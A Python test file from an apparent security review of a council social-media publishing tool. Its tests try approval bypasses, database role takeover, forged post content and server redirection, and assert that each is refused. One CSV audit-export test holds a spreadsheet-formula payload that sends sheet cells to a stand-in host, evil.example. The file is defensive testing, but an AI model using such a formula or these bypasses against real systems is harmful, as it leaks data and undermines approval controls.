"""Review, session 6 (team mode on PostgreSQL, Welsh, IT): each test is a defect found by trying it.

The team tests run against the real PostgreSQL server of ``tests/postgres.py``, each forbidden thing tried
the way a malicious officer would, over their own database login with plain SQL.
"""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest
from psycopg import errors

from desktop.core.team.connection import TeamError, TeamUrl, connect
from tests.fakes.graph_fixtures import graph_api, graph_api_factory, graph_session
from tests.postgres import TeamDatabase, unique_name
from tests.test_facebook_publisher import page
from tests.test_team_db import Team, held_account

__all__ = ["graph_api", "graph_api_factory", "graph_session", "page"]  # fixtures, imported by name


@pytest.fixture
def team(team_db: TeamDatabase) -> Team:
    return Team(team_db)


# -- (A) approvals enforced by the database ---------------------------------------------------------


@pytest.mark.integration
def test_an_approver_cannot_approve_their_own_words_written_into_someone_elses_submission(team: Team) -> None:
    """An approver edited an author's submission into their own text and approved it alone: four eyes
    became two. The audit log read "edited", then "approved" by the same person."""
    sid = team.submit(team.as_(team.author), "Bins go out on Tuesday")
    approver = team.as_(team.approver)
    approver.execute(
        "SELECT crier.edit(%s, %s, %s, NULL)", (uuid.uuid4(), sid, "Vote for Cllr Smith on Thursday!")
    )
    with pytest.raises(errors.InsufficientPrivilege, match="you cannot approve a submission you have edited"):
        approver.execute("SELECT crier.decide(%s, %s, 'approved', '', NULL)", (uuid.uuid4(), sid))
    assert team.column("SELECT count(*) FROM crier.outbox") == [0]
    # another approver reads the edited words and approves them: the normal way
    team.as_(team.approver2).execute("SELECT crier.decide(%s, %s, 'approved', '', NULL)", (uuid.uuid4(), sid))
    assert team.column("SELECT text FROM crier.outbox") == ["Vote for Cllr Smith on Thursday!"]


@pytest.mark.integration
def test_a_team_admin_cannot_take_over_a_database_role_outside_the_team(team: Team) -> None:
    """``crier.add_person`` runs as the database owner (CREATEROLE), so a team admin could set the password
    of any login on the PostgreSQL server that isn't a superuser (another application's, a monitoring
    role with pg_read_all_data) and sign in as it."""
    outsider = unique_name("payroll")
    team.db.server.superuser_sql(f"CREATE ROLE {outsider} LOGIN PASSWORD 'payroll-secret'")
    admin = unique_name("itdesk")
    team.admin.execute("SELECT crier.add_person(%s, 'admin', %s)", (admin, f"pw-{admin}"))
    with pytest.raises(errors.InsufficientPrivilege, match="outside this team"):
        team.as_(admin).execute("SELECT crier.add_person(%s, 'author', 'hijacked')", (outsider,))
    with pytest.raises(TeamError, match="refused the password"):
        connect(TeamUrl.parse(team.db.url_for(outsider)), "hijacked").close()
    # a Kerberos user's existing role is still taken in without a password, as docs/team.md says
    team.as_(admin).execute("SELECT crier.add_person(%s, 'author', NULL)", (outsider,))
    # and a team member's own password can still be reset by the team's admin
    team.as_(admin).execute("SELECT crier.add_person(%s, 'author', 'new-pw')", (team.author,))
    connect(TeamUrl.parse(team.db.url_for(team.author)), "new-pw").close()


@pytest.mark.integration
def test_posting_without_approval_needs_a_reason_a_person_can_read(team: Team) -> None:
    """The window and the CLI drop invisible reasons, but the database, which "checks it again", took a
    tab, a newline or a zero-width space as the reason for skipping approval."""
    team.admin.execute("SELECT crier.set_policy('approvers_skip_approval', 'true')")
    approver = team.as_(team.approver)
    for reason in ("\t", "\n", "\u200b", "\u200b\u2060 \t"):
        with pytest.raises(errors.InsufficientPrivilege, match="need approval first"):
            approver.execute(
                "SELECT crier.post_direct(%s, %s, 'Urgent: road closed', %s)",
                (uuid.uuid4(), team.account, reason),
            )
    with pytest.raises(errors.InvalidParameterValue, match="the post is empty"):
        approver.execute("SELECT crier.post_direct(%s, %s, E' \\t', 'flood')", (uuid.uuid4(), team.account))
    approver.execute(
        "SELECT crier.post_direct(%s, %s, 'Urgent: road closed', 'Flooding, police asked')",
        (uuid.uuid4(), team.account),
    )
    assert team.column("SELECT text FROM crier.outbox") == ["Urgent: road closed"]


@pytest.mark.integration
def test_an_author_without_the_accounts_credentials_cannot_mark_an_approved_post_sent(team: Team) -> None:
    """Any member could claim any account's post and mark it sent with a made-up id. Only the account's
    holders (migration t0008) are handed its posts; an author making the account known from psql, or
    naming themselves a holder, doesn't become one."""
    sid = team.submit(team.as_(team.author))
    team.as_(team.approver).execute("SELECT crier.decide(%s, %s, 'approved', '', NULL)", (uuid.uuid4(), sid))
    author = team.as_(team.author)
    author.execute("SELECT crier.register_account('x', '@council', 'Council')")
    with pytest.raises(errors.InsufficientPrivilege, match="only a team admin"):
        author.execute("SELECT crier.add_holder(%s, %s)", (team.account, team.author))
    try:
        row = author.execute("SELECT id, attempt_id FROM crier.claim_next(%s)", ([team.account],)).fetchone()
        if row is not None:
            author.execute(
                "SELECT crier.finish(%s, %s, '[\"1234567890\"]', 'https://x.com/i/1234567890', '')", row
            )
    except errors.InsufficientPrivilege:
        pass
    assert team.column("SELECT state FROM crier.outbox") == ["queued"]


# -- (A) the post gate binds approvals ----------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.slow
def test_personal_data_edited_in_after_submitting_is_not_approved_and_posted(
    tmp_path: Path, team_db: TeamDatabase, x_api
) -> None:  # noqa: ANN001
    from tests.test_team_cli import Office

    office = Office(tmp_path, team_db, x_api)
    sid = office.submit("Bins go out on Tuesday this week.")
    edited = office.author.root / "edited.txt"
    edited.write_text("Bins go out on Tuesday. Questions? Ring Dave on 07700 900123.", encoding="utf-8")
    office.author.ok("edit", str(sid), str(edited))  # no check: `crier queue` ran the gate, `edit` doesn't
    refused = office.approver.run("approve", str(sid))
    assert refused.returncode == 1 and "Traceback" not in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1 and "Personal" in refused.stderr, refused.stderr
    office.approver.run("sync", "--once")
    posted = [t.submitted_text for t in x_api.state.tweets_for(x_api.state.user_by_username("council").id)]
    assert not any("07700" in text for text in posted)


# -- (B) Welsh ------------------------------------------------------------------------------------------


@pytest.fixture
def welsh_ui(qapp):  # noqa: ANN001, ANN201
    from PySide6.QtCore import QLocale

    from desktop.ui import i18n

    assert i18n.install_translations(qapp, "cy") == "cy"
    yield
    for translator in qapp.findChildren(i18n.QTranslator):
        qapp.removeTranslator(translator)
        translator.deleteLater()
    QLocale.setDefault(QLocale("en_GB"))


def test_the_team_areas_times_have_welsh_month_names(welsh_ui: None) -> None:
    """The Team area wrote every time with strftime ("07 Dec 09:30"): English months in a Welsh window."""
    from desktop.ui.team_model import when_text

    shown = when_text("2026-12-07T12:30:00Z")
    assert "Dec" not in shown and "Rhag" in shown


def test_a_failed_send_in_a_submissions_history_is_said_in_welsh(welsh_ui: None) -> None:
    """``send_failed``, which the team database writes after every failed attempt, had no words: the
    history showed "send failed" in English."""
    from desktop.ui.team_model import action_text

    assert action_text("send_failed") != "send failed"
    assert "anfon" in action_text("send_failed")


def test_a_restored_backups_time_is_written_in_welsh(welsh_ui: None) -> None:
    """The notice after a damaged drafts file was replaced by a backup put an English date in the Welsh
    sentence ("… o 03 Jun 2025 09:30")."""
    import os
    from datetime import datetime

    from desktop.core import backup
    from desktop.core.db import open_database
    from desktop.core.paths import app_paths
    from desktop.ui.i18n import shown

    paths = app_paths().ensure()
    open_database(paths).close()
    backup.backup_database(paths.database, paths.backups, backup.DAILY_PREFIX)
    then = datetime(2025, 6, 3, 9, 30).timestamp()
    for copy in paths.backups.iterdir():
        os.utime(copy, (then, then))
    for extra in ("-wal", "-shm"):
        Path(f"{paths.database}{extra}").unlink(missing_ok=True)
    paths.database.write_bytes(b"this is not a database at all" * 100)
    db = open_database(paths)
    try:
        (notice,) = [shown(n) for n in db.notices if "backup" in n]
    finally:
        db.close()
    assert "Jun" not in notice and "Meh" in notice, notice


# -- (C) no secrets on disk or in messages; policy that binds ---------------------------------------


def test_a_mistyped_team_address_is_never_repeated_with_its_password() -> None:
    """ "crier team join 'postgresql://bob:Secr3t@db/crier?foo=bar'" answered with the whole address,
    password and all, on screen (and in a screen share or a support ticket)."""
    for typed in (
        "postgresql://bob:Secr3t@db.council.local/crier?foo=bar",
        "postgresql://bob@db.council.local/crier?password=Secr3t&foo=bar",
    ):
        with pytest.raises(TeamError) as refused:
            TeamUrl.parse(typed)
        assert "Secr3t" not in str(refused.value.user_message)
        assert "db.council.local" in str(refused.value.user_message)


@pytest.mark.integration
def test_a_client_keys_passphrase_in_the_team_address_is_not_kept_on_disk(tmp_path: Path, team: Team) -> None:
    """libpq's ``sslpassword`` (the passphrase of a client certificate's key) went into team.sqlite3 in
    plain text with the address, and the policy and settings accepted it."""
    from desktop.core.credentials import SecretStore
    from desktop.core.settings import SETTINGS
    from desktop.core.team.joining import join
    from tests.keyrings import MemoryKeyring

    url = TeamUrl.parse(team.db.url_for(team.author) + "?sslpassword=key-passphrase-42")
    join(tmp_path, url, f"pw-{team.author}", SecretStore(backend=MemoryKeyring()))
    assert b"key-passphrase-42" not in (tmp_path / "team.sqlite3").read_bytes()
    with pytest.raises(Exception):  # noqa: B017, PT011 - the setting's own refusal
        SETTINGS["team.database_url"].type.check("postgresql://db.council.local/crier?sslpassword=x")


def test_the_team_database_set_by_policy_cant_be_swapped_by_hostaddr() -> None:
    """With ``team.database_url`` locked, a PC "cannot join any other database", but a ``hostaddr`` (or
    ``service``) in the typed address sends libpq to another server under the policy's host name."""
    from desktop.core.team.joining import team_url

    policy = "postgresql://db.council.local/crier?sslmode=verify-full"
    for typed in (
        "postgresql://asmith@db.council.local/crier?hostaddr=203.0.113.9",
        "postgresql://asmith@db.council.local/crier?service=mine",
    ):
        with pytest.raises(TeamError, match="policy"):
            team_url(typed, policy, locked=True)
    assert team_url("postgresql://asmith@db.council.local/crier", policy, locked=True).user == "asmith"


@pytest.mark.integration
def test_the_audit_export_for_it_never_holds_a_spreadsheet_formula(
    tmp_path: Path, team_db: TeamDatabase
) -> None:
    """`crier audit export --format csv` is for FOI requests, opened in Excel: an officer's post or comment
    starting with "=" became a live formula (a link that sends the sheet's cells away) on IT's PC."""
    import csv
    import io

    from tests.postgres import OWNER_PASSWORD
    from tests.team_pcs import PC

    it = PC(tmp_path / "it")
    it.ok("team", "init", team_db.owner_url(with_password=False), stdin=OWNER_PASSWORD + "\n")
    author = unique_name("alice")
    it.ok("team", "add-user", author, "--role", "author", stdin="alice-pw\n")
    owner = connect(TeamUrl.parse(team_db.owner_url()), None)
    account = owner.execute("SELECT crier.register_account('x', '@council')").fetchone()[0]
    formula = '=HYPERLINK("https://evil.example/?"&A1:J99,"Open the draft")'
    officer = connect(TeamUrl.parse(team_db.url_for(author)), "alice-pw")
    sid = officer.execute("SELECT crier.submit(%s, %s, %s)", (uuid.uuid4(), account, formula)).fetchone()[0]
    officer.execute("SELECT crier.add_comment(%s, %s, %s)", (uuid.uuid4(), sid, "+1 from me"))
    rows = list(csv.DictReader(io.StringIO(it.ok("audit", "export", "--format", "csv"))))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(formula in cell for cell in cells)  # the words are all there, as text
    assert formula in [e["text"] for e in __import__("json").loads(it.ok("audit", "export"))]  # JSON as is


# -- (A) exactly once across PCs whose clocks disagree ------------------------------------------------


@pytest.mark.integration
def test_a_pc_whose_clock_is_right_finds_the_post_a_fast_pc_landed_before_it_died(
    team: Team, graph_api, page, secrets, monkeypatch: pytest.MonkeyPatch
) -> None:  # noqa: ANN001
    """The team outbox hands a post that PC A was sending when it died to PC B, which first asks Facebook
    whether it landed, searching from the first attempt's time recorded with the post. A's clock is
    3 minutes fast (inside what a Windows domain allows): when that time was A's own, B's search started
    after the post and missed it, and B posted it again. The time is now the team database's (t0008), read
    against each PC's own clock. (One PC alone is fine: it corrects by Facebook's Date header.)"""
    from datetime import timedelta

    from desktop.core.clock import utcnow
    from desktop.core.net import NetConfig
    from desktop.core.networks.facebook import publisher as fbp
    from desktop.core.team import publish
    from desktop.core.team.publish import TeamSender
    from tests.fakes.graph_fixtures import CONNECT_TIMEOUT
    from tests.test_team_db import REQUEST_DEADLINE, _wait_out_deadline

    monkeypatch.setenv("CRIER_REQUEST_DEADLINE", str(REQUEST_DEADLINE))  # short requests, short waits
    graph_session = graph_api.session()
    longest = NetConfig.from_env(connect_timeout=CONNECT_TIMEOUT).longest_request

    text = "Leisure centre closed on Monday for repairs"
    account = team.register(page.handle, "Council page", network="facebook")
    submit = "SELECT crier.submit(%s, %s, %s)"
    sid = team.as_(team.author).execute(submit, (uuid.uuid4(), account, text)).fetchone()[0]
    team.as_(team.approver2).execute("SELECT crier.decide(%s, %s, 'approved', '', NULL)", (uuid.uuid4(), sid))

    class DiesAfterSending:
        """A's publisher: the post lands, then A's PC dies before it records the answer."""

        def __init__(self, real: fbp.FacebookPublisher, conn) -> None:  # noqa: ANN001
            self.real, self.conn = real, conn

        def __getattr__(self, name: str):  # noqa: ANN204
            return getattr(self.real, name)

        def publish(self, part):  # noqa: ANN001, ANN201
            result = self.real.publish(part)
            self.conn.close()
            return result

    fast = 180.0
    monkeypatch.setattr(publish, "utcnow", lambda: utcnow() + timedelta(seconds=fast))  # A's whole clock
    pc_a = fbp.FacebookPublisher(page, secrets, graph_session, clock=lambda: graph_api.state.now() + fast)
    conn_a = team.as_(team.approver)
    lost = TeamSender(
        conn_a, {account: page}, lambda a: DiesAfterSending(pc_a, conn_a), lambda t, a: [t],
        longest_request=longest,
    ).run()  # fmt: skip
    assert lost.lost == team.column("SELECT id FROM crier.outbox")
    assert len(graph_api.state.posts_for(graph_api.page.id)) == 1
    _wait_out_deadline(longest)  # A's request has ended: B may take the post over (t0010)

    monkeypatch.setattr(publish, "utcnow", utcnow)  # B's clock is right
    pc_b = fbp.FacebookPublisher(page, secrets, graph_session, clock=graph_api.state.now)
    report = TeamSender(team.as_(team.approver2), {account: page}, lambda a: pc_b, lambda t, a: [t]).run()
    (landed,) = graph_api.state.posts_for(graph_api.page.id)
    assert report.sent == lost.lost
    assert team.column("SELECT remote_ids FROM crier.outbox") == [[landed.id]]


@pytest.mark.integration
def test_the_windows_approve_runs_the_post_gate_on_the_words_approved(
    qtbot, team_db: TeamDatabase, db
) -> None:  # noqa: ANN001
    """The Team area's Approve: personal data submitted from psql (no post gate ran) is refused in one
    sentence, and a finding policy lets be overridden needs the approver's note as the reason."""
    import keyring

    from tests import test_team_ui as ui
    from tests.keyrings import MemoryKeyring

    previous = keyring.get_keyring()
    keyring.set_keyring(MemoryKeyring())
    try:
        team = ui.Team(team_db)
        phone = team.submit(team.author, "Bins go out on Tuesday. Questions? Ring Dave on 07700 900123.")
        rude = team.submit(team.author, "Fly-tipping on Elm Street? This is shit, residents say: report it.")
        ui._join(team, team.approver, "bob-pw")
        from desktop.core.store import DraftStore
        from desktop.ui.main_window import MainWindow

        win = MainWindow(DraftStore(db))
        qtbot.addWidget(win)
        win.show()
        win.team.action.trigger()
        panel = win.team.panel
        ui._select(qtbot, win, phone)
        panel.approve_button.click()
        qtbot.waitUntil(lambda: "can't be posted" in panel.message.text(), timeout=ui.WAIT_MS)
        assert team.state(phone) == "submitted"
        ui._select(qtbot, win, rude)
        panel.approve_button.click()
        qtbot.waitUntil(lambda: "reason" in panel.message.text(), timeout=ui.WAIT_MS)
        assert team.state(rude) == "submitted"
        panel.note.setPlainText("Quoting a resident's complaint, agreed with the head of comms")
        panel.approve_button.click()
        qtbot.waitUntil(lambda: team.state(rude) in ("approved", "queued"), timeout=ui.WAIT_MS)
        win.close()
        team.owner.close()
    finally:
        keyring.set_keyring(previous)


@pytest.mark.integration
def test_a_team_policy_value_out_of_range_is_one_plain_sentence(
    tmp_path: Path, team_db: TeamDatabase
) -> None:
    """`crier team policy retention_days 0` (or a retry delay over an hour) answered "something went
    wrong (CheckViolation)"; the value is the mistake, so it gets the same sentence as any wrong value."""
    from tests.postgres import OWNER_PASSWORD
    from tests.team_pcs import PC

    it = PC(tmp_path / "it")
    it.ok("team", "init", team_db.owner_url(with_password=False), stdin=OWNER_PASSWORD + "\n")
    for setting, value in (
        ("retention_days", "0"),
        ("retry_base_seconds", "99999"),
        ("retention_days", "9" * 12),
    ):
        result = it.run("team", "policy", setting, value)
        assert result.returncode == 2, result.stderr
        assert result.stderr.strip() == f"crier: '{value}' is not a valid value for {setting}"
    it.ok("team", "policy", "retention_days", "365")


def test_a_submissions_history_reads_in_welsh_in_a_welsh_window(welsh_ui: None, qtbot) -> None:  # noqa: ANN001
    """The Team area showed each audit entry's detail as the team database wrote it, in English ('version
    2', 'attempt 1 by bob', 'waits for submission 5 to be approved', the English send error). The reader
    recognises the database's own phrases (core.team.history) and a send error kept marked (t0005);
    people's own words stay as they wrote them."""
    from desktop.core import stored_text
    from desktop.core.translatable import QT_TRANSLATE_NOOP
    from desktop.ui.team_view import TeamPanel

    error = QT_TRANSLATE_NOOP(
        "core.x", "X accepted the image but didn't say how to refer to it. Crier will try again."
    )
    panel = TeamPanel()
    qtbot.addWidget(panel)
    panel.show_history(
        [
            {"at": "2026-12-07T09:00:00Z", "actor": "alice", "action": "submitted",
             "detail": "the Welsh of a pair with submission 6"},
            {"at": "2026-12-07T09:01:00Z", "actor": "alice", "action": "edited", "detail": "version 2"},
            {"at": "2026-12-07T09:02:00Z", "actor": "carol", "action": "approved",
             "detail": "Looks good to me"},
            {"at": "2026-12-07T09:02:00Z", "actor": "carol", "action": "waiting_for_pair",
             "detail": "waits for submission 6 to be approved"},
            {"at": "2026-12-07T09:05:00Z", "actor": "bob", "action": "sending", "detail": "attempt 1 by bob"},
            {"at": "2026-12-07T09:06:00Z", "actor": "bob", "action": "send_failed", "detail": str(error),
             "error_text": stored_text.data(error)},
            {"at": "2026-12-07T09:07:00Z", "actor": "dave", "action": "taken_over", "detail": "from bob"},
        ]
    )  # fmt: skip
    shown = panel.history.toPlainText()
    assert "version" not in shown and "attempt" not in shown and "waits" not in shown, shown
    assert "X accepted" not in shown and "pair with" not in shown and "from bob" not in shown, shown
    for welsh in (
        "y Gymraeg mewn pâr gyda chyflwyniad 6",
        "fersiwn 2",
        "Looks good to me",  # a person's own words, as they were written
        "yn aros i gyflwyniad 6 gael ei gymeradwyo",
        "ymgais 1 gan bob",
        "Derbyniodd X y ddelwedd",
        "oddi wrth bob",
    ):
        assert welsh in shown, shown


def test_a_history_entrys_detail_reads_in_english_and_an_unknown_one_as_written() -> None:
    """The same entries for an English reader; a phrase Crier doesn't know (a later version's, a row written
    by hand) and a send error whose marked form no longer reads as it are shown as the database has them."""
    from desktop.core import stored_text
    from desktop.core.team.history import audit_detail
    from desktop.core.translatable import QT_TRANSLATE_NOOP, Text

    assert audit_detail("edited", "version 12") == "version 12"
    assert isinstance(audit_detail("edited", "version 12"), Text)
    assert audit_detail("sending", "attempt 3 by ann smith") == "attempt 3 by ann smith"
    assert audit_detail("person_added", "ann as approver").values["role"].source == "approver"
    for action, detail in (("edited", "version two"), ("approved", "version 2"), ("sent", "")):
        assert audit_detail(action, detail) == detail and not isinstance(audit_detail(action, detail), Text)
    later = stored_text.data(QT_TRANSLATE_NOOP("core.x", "X is busy"))
    assert not isinstance(audit_detail("send_failed", "X refused the post", later), Text)


@pytest.mark.integration
def test_an_author_cannot_change_the_words_of_an_approved_post_that_another_pc_then_sends(team: Team) -> None:
    """The outbox keeps the approved text, but the sender publishes the parts recorded with the first
    attempt ("split", so every PC sends the same parts). An author with psql claims the post, records their
    own words as its parts and disconnects; the comms PC takes it over and posts the author's words with
    the council's credentials."""
    from psycopg.types.json import Jsonb

    from desktop.core.team.publish import TeamSender
    from tests.fakes.scripted import Network, ScriptedPublisher

    sid = team.submit(team.as_(team.author), "Bins go out on Tuesday")
    team.as_(team.approver).execute("SELECT crier.decide(%s, %s, 'approved', '', NULL)", (uuid.uuid4(), sid))
    author = team.as_(team.author)
    try:
        row = author.execute("SELECT id, attempt_id FROM crier.claim_next(%s)", ([team.account],)).fetchone()
        if row is not None:
            forged = Jsonb({"split": ["Vote for Cllr Smith!"]})
            author.execute("SELECT crier.progress(%s, %s, '[]', %s, NULL)", (*row, forged))
    except errors.InsufficientPrivilege:
        pass
    author.close()  # its advisory lock goes with it: the post is taken over at once

    held = held_account()
    net = Network()
    sender = TeamSender(
        team.as_(team.approver), {team.account: held}, lambda a: ScriptedPublisher(net, a), lambda t, a: [t]
    )
    for _ in range(3):
        sender.run()
    posted = [text for posts in net.posts.values() for _, text, _ in posts]
    assert posted == ["Bins go out on Tuesday"]
